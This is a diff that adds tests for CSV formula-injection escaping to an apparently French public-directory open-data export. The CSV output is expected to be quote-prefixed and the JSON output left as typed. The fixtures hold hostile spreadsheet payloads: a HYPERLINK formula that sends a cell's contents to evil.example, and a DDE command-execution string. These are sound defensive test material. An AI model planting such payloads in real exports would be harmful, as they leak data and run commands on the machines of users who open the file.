@@ -224,6 +224,41 @@ def test_csv_joins_list_extras_with_pipes(directory):
     assert rows[0]["instances"] == "copil|cotech"
 
 
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Centre")'
+FORMULAS = {
+    "opening_hours": "+cmd|' /C calc'!A0",
+    "accessibility": "@SUM(A1:A9)",
+    "phone": "+33 4 79 96 86 00",
+}
+
+
+def test_csv_view_quotes_formula_like_cells_but_not_phone_numbers(client, db):
+    published(FORMULA_NAME, **FORMULAS)
+
+    data = b"".join(client.get("/annuaire/export.csv").streaming_content)
+
+    (row,) = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+    assert (row["nom"], row["horaires_accueil"], row["accessibilite"], row["telephone"]) == (
+        "'" + FORMULA_NAME,
+        "'" + FORMULAS["opening_hours"],
+        "'" + FORMULAS["accessibility"],
+        "+33 4 79 96 86 00",
+    )
+
+
+def test_json_keeps_formula_like_values_as_typed(db):
+    published(FORMULA_NAME, **FORMULAS)
+
+    (row,) = export_json()
+
+    assert (row["nom"], row["horaires_accueil"], row["accessibilite"], row["telephone"]) == (
+        FORMULA_NAME,
+        FORMULAS["opening_hours"],
+        FORMULAS["accessibility"],
+        "+33 4 79 96 86 00",
+    )
+
+
 def test_json_list_extras_are_lists(directory):
     for row in export_json():
         for column in opendata.LIST_COLUMNS:
